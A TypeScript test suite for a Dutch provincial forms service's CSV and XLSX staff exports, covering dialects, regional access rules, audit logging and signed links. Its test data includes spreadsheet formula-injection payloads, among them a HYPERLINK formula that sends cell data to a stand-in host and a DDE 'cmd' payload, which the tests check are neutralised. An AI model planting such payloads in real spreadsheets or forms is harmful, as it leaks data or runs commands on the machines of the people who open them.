import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findForm } from '../../forms/catalogue.js';
import { type Answers, csvColumns, csvGroupColumns, repeatGroups } from '../../forms/definition.js';
import { dynamoStore } from '../../functions/adapters/dynamo-store.js';
import type { CsvDialect } from '../../functions/core/csv-format.js';
import { exportTables } from '../../functions/core/export-tables.js';
import { csvExport, exportScope } from '../../functions/core/exports.js';
import type { SubmissionVersion } from '../../functions/core/model.js';
import { systemPrincipal } from '../../functions/core/policy.js';
import type { Store } from '../../functions/core/ports.js';
import { overijssel } from '../../functions/core/registry/overijssel.js';
import {
  postJson,
  startTestPipeline,
  type TestPipeline,
  validEigenBijdrage,
  validVoortgangOpgaven,
} from '../support/pipeline.js';

/**
 * Staff exports as provincial staff and a regietafel download them: parsed back with a CSV parser in both
 * dialects and compared with the stored submissions; formula injection; who may download what; big files
 * through a signed link; an export spanning many DynamoDB pages; XLSX.
 */

let pipeline: TestPipeline;
const voortgang = findForm('voortgang-opgaven')!;
const eigenBijdrage = findForm('eigen-bijdrage')!;
const dialects: CsvDialect[] = ['excel-nl', 'rfc4180'];

const ijsselland = overijssel.municipalities.filter((m) => m.region === 'ijsselland').map((m) => m.code);
const twente = overijssel.municipalities.filter((m) => m.region === 'twente').map((m) => m.code);

/** Text an attacker could type into a form, to be run by a spreadsheet that opens the export. */
const injections = [
  '=HYPERLINK("https://kwaad.example/?d="&A1,"klik")',
  '+SUM(1;2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1;1)',
  '\tTAB=1+1',
  '\rCR=1+1',
  '＝1+1',
];

let token: { province: string; ijsselland: string; twente: string };

beforeAll(async () => {
  pipeline = await startTestPipeline();
  token = {
    province: await pipeline.staffToken('provincie:overijssel'),
    ijsselland: await pipeline.staffToken('regietafel:ijsselland'),
    twente: await pipeline.staffToken('regietafel:twente'),
  };
  const round = pipeline.rounds['voortgang-opgaven']!;
  // Six municipalities of both regions; each location name is one injection vector; a lead (negative
  // backlog) must stay a number.
  const codes = [...ijsselland.slice(0, 3), ...twente.slice(0, 3)];
  for (const [index, code] of codes.entries()) {
    const answers = validVoortgangOpgaven({
      regularCommitted: 600 + index,
      asylumLocations: [
        {
          name: injections[index]!,
          type: 'azc',
          capacity: 100 + index,
          availableFrom: '2026-01-01',
          phase: 'voornemen',
        },
        {
          name: `Locatie ${index}`,
          type: 'amv',
          capacity: 20,
          availableFrom: '2026-02-01',
          phase: 'realisatie',
        },
      ],
      housing: [{ period: '2026-H2', task: 10, backlog: -4, housed: 3, ibtColour: 'groen' }],
      contactName: injections[(index + 1) % injections.length],
    });
    const url = pipeline.formUrl(code, round);
    expect((await postJson(url, { answers, baseVersion: 0 })).status).toBe(201);
  }
  // One amendment: Zwolle has two versions.
  const amended = validVoortgangOpgaven({ regularCommitted: 650 });
  expect(
    (await postJson(pipeline.formUrl(codes[0]!, round), { answers: amended, baseVersion: 1 })).status,
  ).toBe(201);
  // Money fields (decimal comma) come from the eigen-bijdrage form.
  for (const code of ijsselland.slice(0, 2)) {
    expect(
      (await postJson(pipeline.formUrl(code), { answers: validEigenBijdrage(), baseVersion: 0 })).status,
    ).toBe(201);
  }
});

afterAll(async () => {
  await pipeline?.stop();
});

function exportUrl(formId: string, params: Record<string, string>): string {
  return `${pipeline.baseUrl}/staf/formulieren/${formId}/export?${new URLSearchParams(params)}`;
}

async function download(formId: string, params: Record<string, string>, bearer = token.province) {
  return fetch(exportUrl(formId, params), { headers: { authorization: `Bearer ${bearer}` } });
}

/** The body as bytes decoded as UTF-8, BOM included (Response.text() would drop it). */
async function body(response: Response): Promise<string> {
  return Buffer.from(await response.arrayBuffer()).toString('utf8');
}

function read(text: string, dialect: CsvDialect): string[][] {
  if (dialect === 'excel-nl') expect(text.charCodeAt(0)).toBe(0xfeff);
  else expect(text.charCodeAt(0)).not.toBe(0xfeff);
  expect(text).toContain('\r\n');
  return parse(text, { delimiter: dialect === 'excel-nl' ? ';' : ',', bom: true, relax_column_count: false });
}

/** A cell as the spreadsheet reads it back into the stored value. */
function cellValue(cell: string, expected: unknown, dialect: CsvDialect): unknown {
  if (typeof expected === 'number') return Number(dialect === 'excel-nl' ? cell.replace(',', '.') : cell);
  return cell;
}

async function currentVersions(roundId: string, formId: string): Promise<Map<string, SubmissionVersion>> {
  const versions = (await pipeline.store.listCurrent(roundId)).filter((v) => v.formId === formId);
  return new Map(versions.map((version) => [version.municipality, version]));
}

describe('the main table: one row per municipality, figures as stored', () => {
  for (const dialect of dialects) {
    it(`voortgang-opgaven, ${dialect}: columns from the definition, every municipality once, answers match`, async () => {
      const round = pipeline.rounds['voortgang-opgaven']!;
      const response = await download('voortgang-opgaven', { ronde: round.id, dialect });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toMatch(
        new RegExp(
          `attachment; filename="voortgang-opgaven_${round.id}_gemeenten_\\d{4}-\\d{2}-\\d{2}_${dialect}\\.csv"`,
        ),
      );
      const [header, ...rows] = read(await body(response), dialect);
      const table = exportTables(voortgang, (id) => id)[0]!;
      expect(header).toEqual(table.columns.map((column) => column.header));
      expect(rows).toHaveLength(25);
      for (const row of rows) expect(row, row[0]).toHaveLength(header!.length);

      const stored = await currentVersions(round.id, 'voortgang-opgaven');
      const columns = csvColumns(voortgang);
      const leading = table.columns.findIndex((column) => column.key === columns[0]!.key);
      for (const row of rows) {
        const version = stored.get(row[0]!);
        expect(row[3]).toBe(round.id);
        if (!version) {
          expect(row[4]).toBe('niets');
          expect(row.slice(5).every((cell) => cell === '')).toBe(true);
          continue;
        }
        expect(row.slice(4, 7)).toEqual(['ingezonden', String(version.version), 'ja']);
        for (const [index, column] of columns.entries()) {
          const expected = column.value(version.answers);
          const cell = row[leading + index]!;
          if (typeof expected === 'string' && /^[=+\-@\t\r＝]/.test(expected)) {
            expect(cell, column.key).toBe(`'${expected}`);
          } else {
            expect(cellValue(cell, expected, dialect), column.key).toEqual(expected);
          }
        }
      }
      // The amended municipality shows its second version.
      expect(rows.find((row) => row[0] === ijsselland[0])!.slice(5, 6)).toEqual(['2']);
    });

    it(`eigen-bijdrage, ${dialect}: amounts with two decimals and the dialect's decimal sign`, async () => {
      const response = await download('eigen-bijdrage', { ronde: pipeline.round.id, dialect });
      const [, ...rows] = read(await body(response), dialect);
      const columns = csvColumns(eigenBijdrage);
      const leading = exportTables(eigenBijdrage, (id) => id)[0]!.columns.findIndex(
        (column) => column.key === columns[0]!.key,
      );
      const stored = await currentVersions(pipeline.round.id, 'eigen-bijdrage');
      const moneyIndexes = exportTables(eigenBijdrage, (id) => id)[0]!
        .money.map((money, index) => (money ? index : -1))
        .filter((index) => index >= 0);
      expect(moneyIndexes.length).toBeGreaterThan(0);
      for (const row of rows.filter((candidate) => stored.has(candidate[0]!))) {
        const version = stored.get(row[0]!)!;
        for (const index of moneyIndexes) {
          const cell = row[index]!;
          if (cell === '') continue;
          expect(cell).toMatch(dialect === 'excel-nl' ? /^-?\d+,\d{2}$/ : /^-?\d+\.\d{2}$/);
          expect(cellValue(cell, 0, dialect)).toBe(columns[index - leading]!.value(version.answers));
        }
      }
    });
  }
});

describe('machine keys for scripts', () => {
  it('kop=sleutel heads every column with its stable key instead of the Dutch header', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const response = await download('voortgang-opgaven', {
      ronde: round.id,
      kop: 'sleutel',
      dialect: 'rfc4180',
    });
    const [header, ...rows] = read(await body(response), 'rfc4180');
    const table = exportTables(voortgang, (id) => id)[0]!;
    expect(header).toEqual(table.columns.map((column) => column.key));
    expect(header!.slice(0, 4)).toEqual(['gemeente_code', 'gemeente', 'regio', 'ronde']);
    expect(header).toContain('regularCommitted');
    expect(rows).toHaveLength(25);
    const group = await download('voortgang-opgaven', {
      ronde: round.id,
      tabel: 'housing',
      kop: 'sleutel',
      dialect: 'rfc4180',
    });
    const [groupHeader] = read(await body(group), 'rfc4180');
    expect(groupHeader).toContain('housing.backlog');
  });
});

describe('repeated groups in long format, keyed by municipality', () => {
  for (const dialect of dialects) {
    it(`every location and half year its own row (${dialect}); injections neutralised, a lead stays -4`, async () => {
      const round = pipeline.rounds['voortgang-opgaven']!;
      const stored = await currentVersions(round.id, 'voortgang-opgaven');
      for (const group of repeatGroups(voortgang)) {
        const response = await download('voortgang-opgaven', { ronde: round.id, tabel: group.key, dialect });
        expect(response.status, group.key).toBe(200);
        const [header, ...rows] = read(await body(response), dialect);
        const columns = csvGroupColumns(group);
        expect(header!.slice(0, 6)).toEqual(['Gemeentecode', 'Gemeente', 'Regio', 'Ronde', 'Versie', 'Nr.']);
        expect(header!.slice(6, 6 + columns.length)).toEqual(columns.map((column) => column.header));
        expect(header!.at(-1)).toBe('Overige gegevens (niet in het formulier)');
        const expectedRows = [...stored.values()].flatMap((version) =>
          ((version.answers[group.key] as Answers[] | undefined) ?? []).map((item, index) => ({
            version,
            item,
            index,
          })),
        );
        expect(rows).toHaveLength(expectedRows.length);
        for (const { version, item, index } of expectedRows) {
          const row = rows.find(
            (candidate) => candidate[0] === version.municipality && candidate[5] === String(index + 1),
          )!;
          expect(row[4]).toBe(String(version.version));
          for (const [offset, column] of columns.entries()) {
            const expected = column.value(item);
            const cell = row[6 + offset]!;
            if (typeof expected === 'string' && /^[=+\-@\t\r＝]/.test(expected))
              expect(cell).toBe(`'${expected}`);
            else expect(cellValue(cell, expected, dialect), column.key).toEqual(expected);
          }
        }
        if (group.key === 'housing') {
          const backlog = header!.indexOf('Achterstand begin');
          const leads = rows.filter((row) => row[0] !== ijsselland[0]);
          expect(leads.length).toBeGreaterThan(0);
          expect(leads.every((row) => row[backlog] === '-4')).toBe(true);
        }
        if (group.key === 'asylumLocations') {
          const names = rows.map((row) => row[6]!);
          // Vectors that survive the form (leading tab and CR are trimmed away as whitespace) come out
          // quoted; the first one was amended away (it is in the all-versions export below).
          for (const vector of injections.slice(1, 4)) expect(names).toContain(`'${vector}`);
          expect(names.every((name) => !/^[=+\-@\t\r＝]/.test(name))).toBe(true);
        }
      }
    });
  }
});

describe('all versions (audit) and all rounds', () => {
  it('has a row per stored version, the last one of each municipality marked current', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const response = await download('voortgang-opgaven', {
      ronde: round.id,
      versies: 'alle',
      dialect: 'rfc4180',
    });
    expect(response.headers.get('content-disposition')).toContain('_gemeenten_alle-versies_');
    // A repeated group's table is named in the file as on its button, in Dutch, not by its key.
    for (const [tabel, name] of [
      ['asylumLocations', '_asiellocaties_'],
      ['housing', '_taakstelling-per-halfjaar_'],
      // The form's own tables keep their Dutch keys (the summary's attachment says `aandelen` too).
      ['aandelen', '_aandelen_'],
      ['waarschuwingen', '_waarschuwingen_'],
    ] as const) {
      const group = await download('voortgang-opgaven', { ronde: round.id, tabel });
      await group.arrayBuffer();
      expect(group.headers.get('content-disposition'), tabel).toContain(name);
    }
    const [header, ...rows] = read(await body(response), 'rfc4180');
    const version = header!.indexOf('Versie');
    const current = header!.indexOf('Huidige versie');
    expect(rows).toHaveLength(7);
    const zwolle = rows.filter((row) => row[0] === ijsselland[0]);
    expect(zwolle.map((row) => [row[version], row[current]])).toEqual([
      ['1', 'nee'],
      ['2', 'ja'],
    ]);
    expect(rows.filter((row) => row[current] === 'ja')).toHaveLength(6);

    const locations = await download('voortgang-opgaven', {
      ronde: round.id,
      tabel: 'asylumLocations',
      versies: 'alle',
    });
    const [, ...items] = read(await body(locations), 'excel-nl');
    expect(items.find((item) => item[0] === ijsselland[0] && item[4] === '1')![6]).toBe(`'${injections[0]}`);
  });

  it('without a round: every round of the form, each municipality once per round', async () => {
    const extra = { ...pipeline.rounds['voortgang-opgaven']!, id: 'voortgang-extra', title: 'Extra ronde' };
    await pipeline.store.createRound(extra);
    const response = await download('voortgang-opgaven', { dialect: 'rfc4180' });
    expect(response.headers.get('content-disposition')).toContain('voortgang-opgaven_alle-rondes_gemeenten_');
    const [, ...rows] = read(await body(response), 'rfc4180');
    expect(new Set(rows.map((row) => row[3]))).toEqual(
      new Set([pipeline.rounds['voortgang-opgaven']!.id, 'voortgang-extra']),
    );
    expect(rows).toHaveLength(50);
  });

  it('offers the plausibility warnings as a table of their own (field and message columns)', async () => {
    const response = await download('voortgang-opgaven', {
      ronde: pipeline.rounds['voortgang-opgaven']!.id,
      tabel: 'waarschuwingen',
      dialect: 'rfc4180',
    });
    const [header] = read(await body(response), 'rfc4180');
    expect(header).toEqual([
      'Gemeentecode',
      'Gemeente',
      'Regio',
      'Ronde',
      'Versie',
      'Nr.',
      'Veld',
      'Rij',
      'Veldsleutel',
      'Melding',
    ]);
  });
});

describe('who may export what', () => {
  it('a regietafel gets only its own region; the province both', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const own = read(
      await body(await download('voortgang-opgaven', { ronde: round.id }, token.ijsselland)),
      'excel-nl',
    );
    expect(new Set(own.slice(1).map((row) => row[0]))).toEqual(new Set(ijsselland));
    const province = read(await body(await download('voortgang-opgaven', { ronde: round.id })), 'excel-nl');
    expect(province).toHaveLength(26);
  });

  it('refuses a round of another region, a municipality link and no token, with a Dutch reason', async () => {
    const twenteRound = {
      ...pipeline.rounds['voortgang-opgaven']!,
      id: 'voortgang-twente',
      regions: ['twente'],
    };
    await pipeline.store.createRound(twenteRound);
    const foreign = await download('voortgang-opgaven', { ronde: twenteRound.id }, token.ijsselland);
    // Answered like a round that does not exist: nothing tells which rounds other regions have.
    expect(foreign.status).toBe(404);
    const unknown = await download(
      'voortgang-opgaven',
      { ronde: 'voortgang-bestaat-niet' },
      token.ijsselland,
    );
    expect(unknown.status).toBe(404);
    expect(await foreign.text()).toMatch(/Er is geen ronde ‘voortgang-twente’ in uw regio of provincie/);
    expect((await unknown.text()).replace('voortgang-bestaat-niet', 'x')).toBe(
      (
        await (await download('voortgang-opgaven', { ronde: twenteRound.id }, token.ijsselland)).text()
      ).replace('voortgang-twente', 'x'),
    );
    expect((await download('voortgang-opgaven', { ronde: twenteRound.id }, token.twente)).status).toBe(200);

    const link = await pipeline.tokenFor(ijsselland[0]!, pipeline.rounds['voortgang-opgaven']!.id);
    const url = exportUrl('voortgang-opgaven', { ronde: pipeline.rounds['voortgang-opgaven']!.id });
    const credentials: Record<string, string>[] = [
      { authorization: `Bearer ${link}` },
      { cookie: `regietafel_sessie=${link}` },
      {},
    ];
    for (const headers of credentials) {
      const refused = await fetch(url, { headers: { accept: 'application/json', ...headers } });
      expect(refused.status).toBe(401);
      expect(((await refused.json()) as { message: string }).message).toMatch(/medewerkers|Meld u/);
    }
  });

  it('names the wrong parameter in Dutch and stores nothing', async () => {
    const before = (await pipeline.store.listAudit()).length;
    const cases: [Record<string, string>, RegExp][] = [
      [{ dialect: 'excel' }, /dialect: kies dialect=excel-nl \(‘voor Excel’/],
      [{ versies: 'oud' }, /versies: kies huidige of alle/],
      [{ formaat: 'pdf' }, /formaat: kies csv of xlsx/],
      [
        { tabel: 'onbekend' },
        /tabel: de tabel ‘onbekend’ bestaat niet.*gemeenten, aandelen, asylumLocations/,
      ],
      [{ kolom: 'x' }, /Onbekende parameter: kolom/],
      [{ kop: 'engels' }, /kop: kies nl .* of sleutel/],
    ];
    for (const [params, message] of cases) {
      const response = await fetch(exportUrl('voortgang-opgaven', params), {
        headers: { authorization: `Bearer ${token.province}`, accept: 'application/json' },
      });
      expect(response.status, JSON.stringify(params)).toBe(400);
      expect(((await response.json()) as { message: string }).message).toMatch(message);
    }
    expect((await download('bestaat-niet', {})).status).toBe(404);
    expect((await pipeline.store.listAudit()).length).toBe(before);
  });

  it('writes every download to the audit trail', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    await download(
      'voortgang-opgaven',
      { ronde: round.id, tabel: 'housing', dialect: 'rfc4180' },
      token.ijsselland,
    );
    const lines = (await pipeline.store.listAudit(round.id)).filter((line) => line.action === 'download');
    expect(lines.at(-1)).toMatchObject({
      actor: 'staf@test.example',
      roundId: round.id,
      details: { formId: 'voortgang-opgaven', table: 'housing', dialect: 'rfc4180', delivered: 'inline' },
    });
  });
});

describe('XLSX: the same tables as sheets of one workbook', () => {
  it('has a sheet per table with the municipalities, and no formula anywhere', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const response = await download('voortgang-opgaven', { ronde: round.id, formaat: 'xlsx' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const workbook = strFromU8(files['xl/workbook.xml']!);
    for (const sheet of ['Gemeenten', 'Asiellocaties', 'Taakstelling per halfjaar', 'Waarschuwingen']) {
      expect(workbook).toContain(`name="${sheet}"`);
    }
    const strings = strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array());
    const firstSheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(`${strings}${firstSheet}`).toContain('Zwolle');
    // A formula only ever comes from a cell of type Formula, which the export never writes.
    expect(Object.values(files).some((file) => strFromU8(file).includes('<f>'))).toBe(false);
  });
});

/** The cells of a worksheet of an XLSX, row by row: strings resolved, numbers as numbers, and each cell's style. */
function sheetCells(
  files: Record<string, Uint8Array>,
  sheet: number,
): { value: string | number; style: number }[][] {
  const shared = [
    ...strFromU8(files['xl/sharedStrings.xml'] ?? new Uint8Array()).matchAll(/<si>([\s\S]*?)<\/si>/g),
  ].map((match) => [...match[1]!.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map((t) => t[1]).join(''));
  const xml = strFromU8(files[`xl/worksheets/sheet${sheet}.xml`]!);
  return [...xml.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) =>
    [...row[1]!.matchAll(/<c ([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)].map((cell) => {
      const attributes = cell[1]!;
      const inner = cell[2] ?? '';
      const type = /t="([^"]+)"/.exec(attributes)?.[1];
      const style = Number(/s="(\d+)"/.exec(attributes)?.[1] ?? 0);
      const v = /<v>([^<]*)<\/v>/.exec(inner)?.[1] ?? '';
      if (type === 's') return { value: shared[Number(v)]!, style };
      if (type === 'inlineStr') return { value: /<t[^>]*>([^<]*)<\/t>/.exec(inner)?.[1] ?? '', style };
      if (type === 'str') return { value: v, style };
      return { value: v === '' ? '' : Number(v), style };
    }),
  );
}

/** The number format of a cell style (cellXfs index) of a workbook. */
function formatOf(files: Record<string, Uint8Array>, style: number): string | undefined {
  const styles = strFromU8(files['xl/styles.xml']!);
  const formats = new Map(
    [...styles.matchAll(/<numFmt numFmtId="(\d+)" formatCode="([^"]*)"/g)].map((m) => [Number(m[1]), m[2]!]),
  );
  const xfs = /<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/.exec(styles)?.[1] ?? '';
  const xf = [...xfs.matchAll(/<xf ([^>]*)/g)][style]?.[1] ?? '';
  const id = Number(/numFmtId="(\d+)"/.exec(xf)?.[1] ?? 0);
  return formats.get(id) ?? (id === 14 ? 'mm-dd-yy' : undefined);
}

describe('XLSX for spreadsheets and scripts, from a check with LibreOffice and openpyxl', () => {
  it('kop=sleutel heads every sheet with the stable keys; dates and timestamps are real dates', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const response = await download('voortgang-opgaven', {
      ronde: round.id,
      formaat: 'xlsx',
      kop: 'sleutel',
    });
    expect(response.status).toBe(200);
    const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
    const [header, ...rows] = sheetCells(files, 1);
    const table = exportTables(voortgang, (id) => id)[0]!;
    expect(header!.map((cell) => cell.value)).toEqual(table.columns.map((column) => column.key));
    // Ingezonden op: a number (days since 1900) formatted as a Dutch date and time.
    const submittedAt = header!.findIndex((cell) => cell.value === 'ingezonden_op');
    const submitted = rows.find((row) => typeof row[submittedAt]?.value === 'number')![submittedAt]!;
    expect(formatOf(files, submitted.style)).toBe('dd-mm-yyyy hh:mm');
    const locations = sheetCells(files, 3);
    expect(locations[0]!.map((cell) => cell.value)).toContain('asylumLocations.availableFrom');
    const from = locations[0]!.findIndex((cell) => cell.value === 'asylumLocations.availableFrom');
    const dates = locations.slice(1).map((row) => row[from]!);
    // 1 January 2026 is day 46023 of the spreadsheet calendar; the cell is a date, not the text 2026-01-01.
    expect(dates.map((cell) => cell.value)).toContain(46023);
    for (const cell of dates) expect(formatOf(files, cell.style)).toBe('dd-mm-yyyy');
  });

  it('gives every kind of file its own name: dialect, header style and values', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const variants: Record<string, string>[] = [
      {},
      { dialect: 'rfc4180' },
      { kop: 'sleutel' },
      { dialect: 'rfc4180', kop: 'sleutel' },
      { waarden: 'label' },
      { formaat: 'xlsx' },
      { formaat: 'xlsx', kop: 'sleutel', waarden: 'label' },
    ];
    const names: string[] = [];
    for (const variant of variants) {
      const response = await download('voortgang-opgaven', { ronde: round.id, ...variant });
      expect(response.status).toBe(200);
      await response.arrayBuffer();
      names.push(/filename="([^"]+)"/.exec(response.headers.get('content-disposition') ?? '')![1]!);
    }
    expect(new Set(names).size).toBe(variants.length);
    const date = '\\d{4}-\\d{2}-\\d{2}';
    const expected = [
      `gemeenten_${date}_excel-nl.csv`,
      `gemeenten_${date}_rfc4180.csv`,
      `gemeenten_${date}_excel-nl_sleutels.csv`,
      `gemeenten_${date}_rfc4180_sleutels.csv`,
      `gemeenten_${date}_excel-nl_labels.csv`,
      `${date}.xlsx`,
      `${date}_sleutels_labels.xlsx`,
    ];
    for (const [index, name] of names.entries())
      expect(name).toMatch(new RegExp(`^voortgang-opgaven_${round.id}_${expected[index]}$`));
  });
});

describe('aandelen: the published share next to what each municipality reported', () => {
  it('one row per municipality: share, committed, realised and still to realise; no submission, no figures', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const response = await download('voortgang-opgaven', {
      ronde: round.id,
      tabel: 'aandelen',
      dialect: 'rfc4180',
      kop: 'sleutel',
    });
    expect(response.status).toBe(200);
    const [header, ...rows] = read(await body(response), 'rfc4180');
    expect(header).toEqual([
      'gemeente_code',
      'gemeente',
      'regio',
      'ronde',
      'cyclus',
      'aandelen_versie',
      'aandeel_status',
      'aandeel_regulier',
      'aandeel_amv',
      'aandeel_totaal',
      'toegezegd_totaal',
      'gerealiseerd_totaal',
      'nog_te_realiseren_regulier',
      'nog_te_realiseren_amv',
      'nog_te_realiseren_totaal',
    ]);
    expect(rows).toHaveLength(25);
    const targets = (await pipeline.store.listTargets('overijssel')).find(
      (candidate) => candidate.kind === 'spreiding',
    )!;
    const shareOf = (code: string) =>
      targets.kind === 'spreiding'
        ? targets.shares.find((share) => share.municipality === code)!
        : undefined!;
    const row = (code: string) => rows.find((candidate) => candidate[0] === code)!;
    // The first IJsselland municipality amended to 650 regular places committed (350 realised; AMV 40, 24).
    const amended = shareOf(ijsselland[0]!);
    expect(row(ijsselland[0]!).slice(4)).toEqual([
      '2024-2026',
      String(targets.revision),
      'demogegevens',
      String(amended.regular),
      String(amended.amv),
      String(amended.regular + amended.amv),
      '690',
      '374',
      String(Math.max(0, amended.regular - 350)),
      String(Math.max(0, amended.amv - 24)),
      String(Math.max(0, amended.regular - 350) + Math.max(0, amended.amv - 24)),
    ]);
    const silent = twente.at(-1)!;
    const share = shareOf(silent);
    expect(row(silent).slice(4)).toEqual([
      '2024-2026',
      String(targets.revision),
      'demogegevens',
      String(share.regular),
      String(share.amv),
      String(share.regular + share.amv),
      '',
      '',
      '',
      '',
      '',
    ]);
    // Zwolle's share is the known 717, to be confirmed.
    expect(row('GM0193')[6]).toBe('nog te bevestigen');
    expect(row('GM0193')[9]).toBe('717');
  });
});

describe('big files: streamed to storage, answered with a short-lived signed link', () => {
  beforeAll(async () => {
    // Anything above 2 kB counts as big here (4 MB by default); the handler reads the limit per request.
    process.env.EXPORT_INLINE_BYTES = '2000';
    for (const code of ijsselland.slice(3)) {
      const url = pipeline.formUrl(code, pipeline.rounds['voortgang-opgaven']);
      const stored = await postJson(url, { answers: validVoortgangOpgaven() });
      expect(stored.status, stored.text).toBe(201);
    }
  });

  afterAll(() => {
    delete process.env.EXPORT_INLINE_BYTES;
  });

  it('redirects to a signed download that serves exactly the export; a tampered or expired link is refused', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const provincial = await pipeline.staffToken('provincie:overijssel');
    const response = await fetch(exportUrl('voortgang-opgaven', { ronde: round.id, dialect: 'rfc4180' }), {
      headers: { authorization: `Bearer ${provincial}` },
      redirect: 'manual',
    });
    expect(response.status).toBe(303);
    const link = new URL(response.headers.get('location')!);
    expect(link.pathname).toMatch(
      /^\/_lokaal\/downloads\/exports\/\d{4}-\d{2}-\d{2}\/[\w-]+\/voortgang-opgaven_/,
    );
    const file = await fetch(link);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toContain('attachment; filename="voortgang-opgaven_');
    const text = await file.text();
    expect(Buffer.byteLength(text)).toBeGreaterThan(2000);
    expect(read(text, 'rfc4180')).toHaveLength(26);

    const tampered = new URL(link);
    tampered.searchParams.set('bestand', 'ander.csv');
    expect((await fetch(tampered)).status).toBe(403);
    const expired = new URL(link);
    expired.searchParams.set('verloopt', '1000');
    expect((await fetch(expired)).status).toBe(403);
    const malformed = new URL(link);
    malformed.pathname = `${malformed.pathname}%E0%A4%A`;
    expect((await fetch(malformed)).status).toBe(403);

    const line = (await pipeline.store.listAudit(round.id))
      .filter((entry) => entry.action === 'download')
      .at(-1);
    expect(line!.details).toMatchObject({ delivered: 'link', dialect: 'rfc4180' });
  });

  it('reads through many DynamoDB pages and writes the same file as one big page', async () => {
    const round = pipeline.rounds['voortgang-opgaven']!;
    const deps = (store: Store) => ({ store, clock: { now: () => new Date('2026-11-27T10:00:00Z') } });
    const principal = systemPrincipal(overijssel, 'test');
    const files: string[] = [];
    for (const store of [dynamoStore(pipeline.tableName, pipeline.dynamoClient, 2), pipeline.store]) {
      for (const versions of ['huidige', 'alle'] as const) {
        const scope = await exportScope(deps(store), {
          principal,
          formId: 'voortgang-opgaven',
          roundId: round.id,
        });
        const file = csvExport(deps(store), scope, {
          table: 'asylumLocations',
          versions,
          dialect: 'excel-nl',
        });
        const chunks: Buffer[] = [];
        for await (const chunk of file.body) chunks.push(Buffer.from(chunk as Buffer));
        files.push(Buffer.concat(chunks).toString('utf8'));
      }
    }
    // Every municipality of IJsselland with two locations or more: at two items a page, many pages.
    const submitted = (await pipeline.store.listCurrent(round.id)).filter(
      (v) => v.formId === 'voortgang-opgaven',
    );
    const locations = submitted.reduce((sum, v) => sum + (v.answers.asylumLocations as unknown[]).length, 0);
    expect(locations).toBeGreaterThan(20);
    expect(read(files[0]!, 'excel-nl')).toHaveLength(1 + locations);
    expect(files.slice(0, 2)).toEqual(files.slice(2));
  });
});
